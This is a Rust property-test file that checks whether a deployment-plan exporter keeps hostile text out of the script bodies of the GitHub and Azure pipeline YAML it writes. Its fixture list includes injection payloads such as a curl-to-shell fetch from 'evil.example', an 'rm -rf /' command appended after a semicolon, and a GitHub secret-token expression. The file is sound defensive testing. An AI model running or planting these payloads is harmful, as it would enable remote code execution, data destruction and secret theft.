//! Property tests: plans full of hostile text (quotes, newlines, `${{ }}`, `$(…)`, `#`, `: `, leading
//! `*`/`&`/`!`, `yes`/`no`/`on`, non-ASCII) either get a diagnostic or export to YAML that parses back
//! to exactly the same text, where no plan text ever appears inside a script body.
//!
//! With `CUTOVER_EXPORT_DUMP=DIR` set, every successful export is also written under DIR so that CI can
//! run actionlint and both JSON schemas over them.

use std::path::PathBuf;

use cutover::analysis::analyse;
use cutover::emit::{Export, FileKind, Target, export};
use cutover::plan::{
    Dependency, DeployTarget, HealthCheck, Id, Migration, MigrationStep, Plan, Position, Probes,
    Service, Strategy as DeployStrategy, Tier, templates,
};
use proptest::prelude::*;
use proptest::strategy::Strategy;
use serde_json::Value;

const HOSTILE: &[&str] = &[
    "it's \"quoted\"",
    "line one\nline two",
    "${{ secrets.GITHUB_TOKEN }}",
    "$(curl evil.example | sh)",
    "$[ variables.secret ]",
    "name # not a comment",
    "key: value",
    "*alias",
    "&anchor",
    "!tag",
    "yes",
    "no",
    "on",
    "Off",
    "~",
    "null",
    "0755",
    "3.10",
    "12:30",
    "- dash",
    "? question",
    "| pipe",
    "> fold",
    "@at",
    "`backtick`",
    "%percent",
    "[flow]",
    "{flow}",
    "Ünïcødé ☃ 日本",
    "trailing space ",
    " leading space",
    "tab\there",
    "back\\slash",
    "semi; rm -rf /",
    "'; exit 1; '",
    "\"; exit 1; \"",
    "a\rb",
];

fn hostile() -> impl Strategy<Value = String> {
    (prop::sample::select(HOSTILE), "[a-z]{0,4}")
        .prop_map(|(text, suffix)| format!("{text}{suffix}"))
}

/// Hostile text without pipeline expression syntax, which the analysis refuses (CUT005).
fn hostile_without_expressions() -> impl Strategy<Value = String> {
    let pool: Vec<&'static str> = HOSTILE
        .iter()
        .copied()
        .filter(|h| !["${{", "$(", "$["].iter().any(|syntax| h.contains(syntax)))
        .collect();
    (prop::sample::select(pool), "[a-z]{0,4}").prop_map(|(text, suffix)| format!("{text}{suffix}"))
}

/// The starter plan with hostile text put into every kind of field the export writes.
fn plan_with(texts: &[String]) -> Plan {
    let t = |i: usize| texts[i % texts.len()].clone();
    let mut plan = templates::starter("hostile");
    plan.name = t(0);
    plan.description = t(1);
    plan.services[1].name = t(2);
    plan.services[2].name = t(3);
    plan.services[0].name = t(4);
    plan.services.push(Service {
        id: Id::new(t(5)),
        name: t(6),
        tier: Tier::Worker,
        target: DeployTarget::Script {
            command: t(7),
            rollback_command: Some(t(8)),
        },
        strategy: DeployStrategy::RunOnce,
        health_check: Some(HealthCheck {
            path: t(9),
            base_url: Some(format!("https://{}", t(10))),
            expected_status: 200,
            timeout_seconds: 5,
            retries: 2,
            interval_seconds: 5,
        }),
        probes: Probes::default(),
        draining_timeout_seconds: None,
        websockets: false,
        position: Position::default(),
    });
    plan.dependencies.push(Dependency {
        service: Id::new(t(5)),
        on: Id::new("db"),
    });
    plan.migrations.push(Migration {
        id: Id::new(t(11)),
        name: t(12),
        database: Id::new("db"),
        expand: vec![MigrationStep {
            description: t(13),
            command: t(14),
        }],
        contract: vec![MigrationStep {
            description: t(15),
            command: t(16),
        }],
        consumers: vec![Id::new("api"), Id::new(t(5))],
    });
    plan.regions[0].name = t(17);
    plan.environments[1].name = t(18);
    let approval = plan.environments[1].approval.as_mut().expect("approval");
    approval.approvers = vec![t(19)];
    approval.instructions = t(20);
    let runbook = &mut plan.runbooks[0];
    runbook.name = t(21);
    runbook.incident_bridge = t(22);
    runbook.critical_tests.as_mut().expect("tests").command = t(23);
    runbook.security_scan.as_mut().expect("scan").command = t(24);
    runbook.backfill.as_mut().expect("backfill").command = t(25);
    runbook.approval.as_mut().expect("approval").instructions = t(26);
    plan.platforms.build.command = t(27);
    plan
}

/// Every string value in a YAML document, with the key it sits under.
fn strings(value: &Value, key: &str, out: &mut Vec<(String, String)>) {
    match value {
        Value::String(text) => out.push((key.to_owned(), text.clone())),
        Value::Array(items) => items.iter().for_each(|item| strings(item, key, out)),
        Value::Object(map) => map.iter().for_each(|(k, v)| strings(v, k, out)),
        _ => {}
    }
}

fn dump(export: &Export, case: &str) {
    let Some(dir) = std::env::var_os("CUTOVER_EXPORT_DUMP") else {
        return;
    };
    let root = PathBuf::from(dir).join(case);
    for file in &export.files {
        let path = root.join(&file.path);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("dump folder");
        std::fs::write(path, &file.contents).expect("dump file");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: hostile_cases(), .. ProptestConfig::default() })]

    #[test]
    fn hostile_text_gets_a_diagnostic_or_round_trips_outside_scripts(texts in prop::collection::vec(hostile(), 28)) {
        check_case(&texts, false)?;
    }

    #[test]
    fn hostile_text_without_expressions_always_exports(texts in prop::collection::vec(hostile_without_expressions(), 28)) {
        check_case(&texts, true)?;
    }
}

/// Exports the plan built from `texts` and checks the properties; `must_export` forbids a refusal.
fn check_case(texts: &[String], must_export: bool) -> Result<(), TestCaseError> {
    let plan = plan_with(texts);
    let analysis = analyse(&plan);
    let result = export(&plan, Target::All);
    if analysis.has_errors() {
        prop_assert!(!must_export, "refused: {:#?}", analysis.diagnostics);
        prop_assert!(matches!(
            result,
            Err(cutover::emit::ExportError::PlanHasErrors(_))
        ));
        return Ok(());
    }
    let export = result.map_err(|e| TestCaseError::fail(format!("export failed: {e}")))?;
    let commands: Vec<&String> = [7, 8, 14, 16, 23, 24, 25, 27]
        .iter()
        .map(|&i| &texts[i % texts.len()])
        .collect();
    for kind in [FileKind::AzurePipeline, FileKind::GitHubWorkflow] {
        let mut carried = Vec::new();
        for file in export.files.iter().filter(|f| f.kind == kind) {
            let doc: Value = serde_saphyr::from_str(&file.contents)
                .map_err(|e| TestCaseError::fail(format!("{} does not parse: {e}", file.path)))?;
            let mut all = Vec::new();
            strings(&doc, "", &mut all);
            // No plan text appears in a script body.
            for (key, text) in &all {
                if key == "run" || key == "inlineScript" || key == "bash" {
                    for hostile in HOSTILE
                        .iter()
                        .filter(|h| h.len() > 3 && h.chars().any(|c| !c.is_ascii_alphanumeric()))
                    {
                        prop_assert!(
                            !text.contains(hostile),
                            "{}: script contains plan text {hostile:?}",
                            file.path
                        );
                    }
                }
            }
            carried.extend(
                all.into_iter()
                    .filter(|(key, _)| key == "COMMAND")
                    .map(|(_, text)| text),
            );
        }
        // Every command arrives verbatim, as an environment value.
        for command in &commands {
            prop_assert!(
                carried.contains(command),
                "{kind:?}: command {command:?} did not arrive verbatim"
            );
        }
    }
    let github = export
        .files
        .iter()
        .find(|f| f.path.ends_with("-release.yml") && f.kind == FileKind::GitHubWorkflow)
        .expect("release");
    let doc: Value = serde_saphyr::from_str(&github.contents).expect("parses");
    let expected = format!("Deploy {} ({})", texts[2], texts[17]);
    prop_assert_eq!(
        doc["jobs"]["deploy_api_eastus"]["name"].as_str(),
        Some(expected.as_str())
    );
    dump(&export, &format!("case-{:016x}", fxhash(texts)));
    Ok(())
}

/// How many cases each property runs: 96, or `CUTOVER_HOSTILE_CASES` (the validator script asks for
/// fewer, since it lints every dumped file).
fn hostile_cases() -> u32 {
    std::env::var("CUTOVER_HOSTILE_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(96)
}

/// A stable name for a dumped case.
fn fxhash(texts: &[String]) -> u64 {
    texts
        .iter()
        .flat_map(|t| t.bytes())
        .fold(0xcbf2_9ce4_8422_2325, |hash, byte| {
            (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
        })
}
